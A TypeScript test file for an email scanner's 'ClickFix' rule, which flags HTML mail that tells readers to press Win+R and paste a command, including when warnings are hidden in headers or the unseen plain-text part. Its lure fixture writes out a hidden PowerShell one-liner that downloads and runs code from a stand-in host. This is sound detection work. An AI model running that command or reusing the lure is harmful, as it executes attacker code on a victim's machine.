/** What makes the reader of a mail paste a command is found, whatever parts and headers say that no reader sees beside it. */
import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { useInspector } from '../testing/inspector.ts'

const { inspect } = useInspector()

const LURE =
  '<html><body><p>Confirm that you are not a robot:</p><ol><li>Press <b>Win + R</b></li><li>Paste (Ctrl + V) the code</li></ol>' +
  '<pre>cmd /c start /min powershell -w hidden -c "iwr http://192.0.2.66/k|iex"</pre></body></html>'
const WARNING = 'Attackers ask their victims to press keys. Never paste such a command.'

function mail({ headers = [] as string[], first = 'Hello', second = LURE, name = 'b1', end = '\r\n' }): Buffer {
  const lines = [
    ...['From: a@example.com', 'To: b@example.org', ...headers, 'MIME-Version: 1.0'],
    ...[`Content-Type: multipart/alternative; boundary="${name}"`, ''],
    ...[`--${name}`, 'Content-Type: text/plain', '', first],
    ...[`--${name}`, 'Content-Type: text/html; charset=utf-8', '', second],
    ...[`--${name}--`, ''],
  ]
  return Buffer.from(lines.join(end))
}

const found = (bytes: Buffer): boolean => inspect(bytes).findings.some(({ id }) => id === 'Docvet.Html.ClickFix')

const threats: Record<string, Buffer> = {
  'nothing else': mail({}),
  'a warning in a header': mail({ headers: [`X-Note: ${WARNING}`] }),
  'a warning in a continued header': mail({ headers: ['X-Note: a', ` ${WARNING}`] }),
  'a name of a host that is a word of warnings': mail({ headers: ['Reply-To: c@victims.example'] }),
  'a warning in the part that is not shown': mail({ first: WARNING }),
  'a boundary with hyphens': mail({ first: WARNING, name: '----=_Next--' }),
  'line feeds alone': mail({ first: WARNING, end: '\n' }),
}

suite('the text of a mail that makes its reader paste a command', () => {
  for (const [how, bytes] of Object.entries(threats))
    test(`is found with ${how}`, () => assert.equal(found(bytes), true))

  test('is none if the same part warns of it', () => {
    assert.equal(found(mail({ second: LURE.replace('<ol>', `<p>${WARNING}</p><ol>`) })), false)
  })
})
